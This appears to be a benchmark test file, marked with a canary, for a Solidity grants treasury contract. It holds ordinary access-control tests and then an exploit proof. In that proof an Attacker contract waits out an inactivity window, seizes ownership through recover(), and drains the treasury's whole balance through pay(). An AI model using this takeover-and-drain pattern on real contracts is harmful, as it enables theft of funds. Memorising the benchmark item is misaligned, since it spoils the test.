// SPDX-License-Identifier: Apache-2.0
// canary: assay-canary-41a3d8e0-33a4-4d15-bd79-f75e2332e286
pragma solidity 0.8.30;

import "./GrantsTreasury.sol";

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function startPrank(address who) external;
    function stopPrank() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant BOARD = address(0xB0A2D);
    address internal constant GUARDIAN = address(0xA0D17);
    address internal constant TEAM = address(0xC2E3);
    address internal constant HEIR = address(0x4E12);
    uint256 internal constant START = 1_800_000_000;

    GrantsTreasury internal treasury;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(START);
        treasury = new GrantsTreasury(BOARD);
        vm.deal(address(treasury), 40 ether);
        vm.startPrank(BOARD);
        treasury.initialize(GUARDIAN);
        treasury.setBudget(TEAM, 2 ether);
        vm.stopPrank();
        mallory = new Attacker(treasury);
    }

    function test_Regular() public {
        require(treasury.owner() == BOARD && treasury.guardian() == GUARDIAN, "at first");

        vm.prank(TEAM);
        treasury.draw(1.5 ether);
        require(TEAM.balance == 1.5 ether && treasury.available(TEAM) == 0.5 ether, "drawn");
        vm.prank(TEAM);
        vm.expectRevert("GrantsTreasury: over budget");
        treasury.draw(1 ether);
        vm.expectRevert("GrantsTreasury: over budget");
        treasury.draw(1);
        vm.warp(START + 30 days);
        require(treasury.available(TEAM) == 2 ether, "renewed");

        vm.prank(BOARD);
        treasury.pay(HEIR, 1 ether, "audit");
        require(HEIR.balance == 1 ether, "paid");

        // not the guardian, and no silence
        vm.expectRevert("GrantsTreasury: recovery closed");
        treasury.recover(address(this));

        vm.prank(BOARD);
        treasury.transferOwnership(HEIR);
        vm.prank(HEIR);
        treasury.acceptOwnership();
        require(treasury.owner() == HEIR, "passed on");

        vm.prank(HEIR);
        treasury.checkIn();
        vm.warp(START + 120 days);
        vm.prank(GUARDIAN);
        vm.expectRevert("GrantsTreasury: bad successor");
        treasury.recover(GUARDIAN);
        vm.prank(GUARDIAN);
        treasury.recover(BOARD);
        require(treasury.owner() == BOARD, "recovered");
        require(treasury.lastActed() == block.timestamp, "a new term");

        uint256 held = address(treasury).balance;
        vm.deal(address(this), 1 ether);
        (bool ok, ) = address(treasury).call{value: 1 ether}("");
        require(ok && address(treasury).balance == held + 1 ether, "paid in");
        vm.startPrank(BOARD);
        treasury.setGuardian(TEAM);
        require(treasury.guardian() == TEAM, "another guardian");
        treasury.renounceOwnership();
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        bytes memory why = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, TEAM);
        GrantsTreasury other = new GrantsTreasury(BOARD);
        vm.startPrank(TEAM);
        vm.expectRevert(why);
        other.initialize(GUARDIAN);
        vm.expectRevert(why);
        treasury.checkIn();
        vm.expectRevert(why);
        treasury.setGuardian(HEIR);
        vm.expectRevert(why);
        treasury.setBudget(TEAM, 9 ether);
        vm.expectRevert(why);
        treasury.pay(TEAM, 1, "");
        vm.expectRevert(why);
        treasury.transferOwnership(TEAM);
        vm.expectRevert(why);
        treasury.acceptOwnership();
        vm.stopPrank();
    }

    function test_RefusesAddresses() public {
        vm.startPrank(BOARD);
        vm.expectRevert(Initializable.InvalidInitialization.selector);
        treasury.initialize(GUARDIAN);
        vm.expectRevert("GrantsTreasury: bad guardian");
        treasury.setGuardian(address(0));
        vm.expectRevert("GrantsTreasury: bad guardian");
        treasury.setGuardian(BOARD);
        vm.expectRevert("GrantsTreasury: no team");
        treasury.setBudget(address(0), 1);
        vm.expectRevert("GrantsTreasury: not sent");
        treasury.pay(address(this), 1, "takes no ether");
        vm.stopPrank();
        vm.warp(START + 90 days);
        vm.prank(GUARDIAN);
        vm.expectRevert("GrantsTreasury: bad successor");
        treasury.recover(address(0));
    }

    function exploit() public {
        vm.warp(treasury.lastActed() + 90 days);
        mallory.run();
    }

    function test_Exploit() public {
        require(treasury.owner() == BOARD, "before");
        exploit();
        require(treasury.owner() == address(mallory), "owner unchanged");
    }

    function target() public view returns (address) {
        return address(treasury);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    GrantsTreasury internal treasury;

    constructor(GrantsTreasury treasury_) {
        treasury = treasury_;
    }

    function run() external {
        treasury.recover(address(this));
        treasury.pay(address(this), address(treasury).balance, "");
    }

    receive() external payable {}
}
